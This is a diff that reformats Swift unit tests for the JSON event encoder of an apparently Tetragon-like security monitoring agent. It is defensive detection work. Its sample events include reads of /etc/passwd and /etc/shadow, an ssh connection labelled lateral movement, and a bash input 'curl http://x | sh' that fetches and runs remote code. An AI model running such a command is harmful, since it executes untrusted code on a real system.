@@ -55,9 +55,10 @@ final class EventJSONTests: XCTestCase {
 
     func testProcessKprobeGolden() throws {
         let (p, parent) = Self.sample()
-        let e = HookEvent(family: .kprobe, process: p, parent: parent, functionName: "fd_install",
-                          args: [HookArgument(.int(3), label: "fd"), HookArgument(.file(path: "/etc/passwd", permission: "-rw-r--r--"))],
-                          action: "KPROBE_ACTION_POST", policyName: "fd-install", message: "sensitive file", tags: ["fim"], timeNs: 1_700_000_000_123_456_789)
+        let e = HookEvent(
+            family: .kprobe, process: p, parent: parent, functionName: "fd_install",
+            args: [HookArgument(.int(3), label: "fd"), HookArgument(.file(path: "/etc/passwd", permission: "-rw-r--r--"))],
+            action: "KPROBE_ACTION_POST", policyName: "fd-install", message: "sensitive file", tags: ["fim"], timeNs: 1_700_000_000_123_456_789)
         try check(.hook(e), golden: "process_kprobe.json")
     }
 
@@ -67,36 +68,47 @@ final class EventJSONTests: XCTestCase {
         var host = Namespaces()
         host.inodes[Namespaces.names.firstIndex(of: "user")!] = 4_026_531_837
         let encoder = EventEncoder(nodeName: "node-1", hostNamespaces: host)
-        let e = HookEvent(family: .kprobe, process: p, parent: parent, functionName: "cap_capable",
-                          args: [HookArgument(.userNamespace(level: 0, uid: 0, gid: 0, inum: 4_026_531_837)),
-                                 HookArgument(.userNamespace(level: 1, uid: 1000, gid: 1000, inum: 4_026_532_600)), HookArgument(.capability(18))],
-                          action: "KPROBE_ACTION_POST", policyName: "caps", message: nil, tags: [], timeNs: 1_700_000_000_123_456_789)
+        let e = HookEvent(
+            family: .kprobe, process: p, parent: parent, functionName: "cap_capable",
+            args: [
+                HookArgument(.userNamespace(level: 0, uid: 0, gid: 0, inum: 4_026_531_837)),
+                HookArgument(.userNamespace(level: 1, uid: 1000, gid: 1000, inum: 4_026_532_600)), HookArgument(.capability(18)),
+            ],
+            action: "KPROBE_ACTION_POST", policyName: "caps", message: nil, tags: [], timeNs: 1_700_000_000_123_456_789)
         let line = encoder.line(.hook(e))
-        XCTAssertTrue(line.contains(#""args":[{"user_ns_arg":{"level":0,"uid":0,"gid":0,"ns":{"inum":4026531837,"is_host":true}}},"#
-                                    + #"{"user_ns_arg":{"level":1,"uid":1000,"gid":1000,"ns":{"inum":4026532600}}},{"capability_arg":18}]"#), line)
+        XCTAssertTrue(
+            line.contains(
+                #""args":[{"user_ns_arg":{"level":0,"uid":0,"gid":0,"ns":{"inum":4026531837,"is_host":true}}},"#
+                    + #"{"user_ns_arg":{"level":1,"uid":1000,"gid":1000,"ns":{"inum":4026532600}}},{"capability_arg":18}]"#), line)
     }
 
     func testProcessTracepointAndLSMGolden() throws {
         let (p, parent) = Self.sample()
-        let tp = HookEvent(family: .tracepoint, process: p, parent: parent, functionName: "", subsystem: "syscalls", event: "sys_enter_openat",
-                           args: [HookArgument(.int(-100)), HookArgument(.string("/etc/shadow")),
-                                  HookArgument(.bytes([1, 2, 3], truncated: true, originalSize: 4096))],
-                           action: "KPROBE_ACTION_SIGKILL", policyName: "fim", message: nil, tags: [], timeNs: 1_700_000_000_123_456_789)
+        let tp = HookEvent(
+            family: .tracepoint, process: p, parent: parent, functionName: "", subsystem: "syscalls", event: "sys_enter_openat",
+            args: [
+                HookArgument(.int(-100)), HookArgument(.string("/etc/shadow")),
+                HookArgument(.bytes([1, 2, 3], truncated: true, originalSize: 4096)),
+            ],
+            action: "KPROBE_ACTION_SIGKILL", policyName: "fim", message: nil, tags: [], timeNs: 1_700_000_000_123_456_789)
         try check(.hook(tp), golden: "process_tracepoint.json")
-        let sock = HookArgValue.SocketInfo(family: "AF_INET", type: "SOCK_STREAM", protocol: "IPPROTO_TCP", saddr: "10.0.0.2", daddr: "10.0.0.9",
-                                           sport: 40000, dport: 22, state: "TCP_SYN_SENT")
-        let lsm = HookEvent(family: .lsm, process: p, parent: nil, functionName: "socket_connect",
-                            args: [HookArgument(.sock(sock)), HookArgument(.linuxBinprm(path: "/usr/bin/ssh", permission: "-rwxr-xr-x"))],
-                            action: "KPROBE_ACTION_OVERRIDE", policyName: "no-ssh", message: "lateral movement", tags: ["network"], timeNs: 1_700_000_000_123_456_789)
+        let sock = HookArgValue.SocketInfo(
+            family: "AF_INET", type: "SOCK_STREAM", protocol: "IPPROTO_TCP", saddr: "10.0.0.2", daddr: "10.0.0.9",
+            sport: 40000, dport: 22, state: "TCP_SYN_SENT")
+        let lsm = HookEvent(
+            family: .lsm, process: p, parent: nil, functionName: "socket_connect",
+            args: [HookArgument(.sock(sock)), HookArgument(.linuxBinprm(path: "/usr/bin/ssh", permission: "-rwxr-xr-x"))],
+            action: "KPROBE_ACTION_OVERRIDE", policyName: "no-ssh", message: "lateral movement", tags: ["network"], timeNs: 1_700_000_000_123_456_789)
         try check(.hook(lsm), golden: "process_lsm.json")
     }
 
     /// Tetragon's ProcessUprobe: path and symbol, then policy_name, message, args, tags, action.
     func testProcessUprobeGolden() throws {
         let (p, parent) = Self.sample()
-        let e = HookEvent(family: .uprobe, process: p, parent: parent, functionName: "readline", path: "/bin/bash",
-                          args: [HookArgument(.string("curl http://x | sh"))], action: "KPROBE_ACTION_POST", policyName: "bash-readline",
-                          message: "interactive command", tags: ["shell"], timeNs: 1_700_000_000_123_456_789)
+        let e = HookEvent(
+            family: .uprobe, process: p, parent: parent, functionName: "readline", path: "/bin/bash",
+            args: [HookArgument(.string("curl http://x | sh"))], action: "KPROBE_ACTION_POST", policyName: "bash-readline",
+            message: "interactive command", tags: ["shell"], timeNs: 1_700_000_000_123_456_789)
         XCTAssertEqual(AgentEvent.hook(e).eventType, "PROCESS_UPROBE")
         try check(.hook(e), golden: "process_uprobe.json")
         // placed by file offset: `offset` instead of `symbol` (Tetragon's fields are exclusive)
@@ -111,10 +123,14 @@ final class EventJSONTests: XCTestCase {
     func testFieldFiltersExcludeAndInclude() {
         let s = Self.sample()
         let event = AgentEvent.exec(process: s.process, parent: s.parent, ancestors: [], timeNs: 0)
-        let exclude = EventEncoder(nodeName: "n", hostNamespaces: Namespaces(), fieldFilters: [FieldFilter(fields: ["process.cap", "process.ns", "parent"], action: .exclude)]).line(event)
+        let exclude = EventEncoder(
+            nodeName: "n", hostNamespaces: Namespaces(), fieldFilters: [FieldFilter(fields: ["process.cap", "process.ns", "parent"], action: .exclude)]
+        ).line(event)
         XCTAssertFalse(exclude.contains("\"cap\"") || exclude.contains("\"ns\"") || exclude.contains("\"parent\""))
         XCTAssertTrue(exclude.contains("\"binary\":\"/usr/bin/true\""))
-        let include = EventEncoder(nodeName: "n", hostNamespaces: Namespaces(), fieldFilters: [FieldFilter(fields: ["process.pid", "process.binary"], action: .include)]).line(event)
+        let include = EventEncoder(
+            nodeName: "n", hostNamespaces: Namespaces(), fieldFilters: [FieldFilter(fields: ["process.pid", "process.binary"], action: .include)]
+        ).line(event)
         XCTAssertTrue(include.hasPrefix("{\"process_exec\":{\"process\":{\"pid\":4242,\"binary\":\"/usr/bin/true\"}},\"node_name\":\"n\""), include)
     }
 
@@ -130,7 +146,9 @@ final class EventJSONTests: XCTestCase {
         let times: [UInt64] = [1_790_000_001_000_000_007, 1_790_000_001_999_999_999, 1_790_000_002_000_000_000, 1_790_000_001_123_456_789]
         let expected = ["2026-09-21T14:13:21.000000007Z", "2026-09-21T14:13:21.999999999Z", "2026-09-21T14:13:22.000000000Z", "2026-09-21T14:13:21.123456789Z"]
         for (i, t) in times.enumerated() {
-            let event: AgentEvent = i % 2 == 0 ? .lostEvents(counts: ["process_exec": 1], total: 1, timeNs: t)
+            let event: AgentEvent =
+                i % 2 == 0
+                ? .lostEvents(counts: ["process_exec": 1], total: 1, timeNs: t)
                 : .exit(process: Self.sample().process, parent: nil, status: 1, signal: 0, timeNs: t)
             let object = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(encoder.line(event).utf8)) as? [String: Any])
             XCTAssertEqual(object["time"] as? String, expected[i])
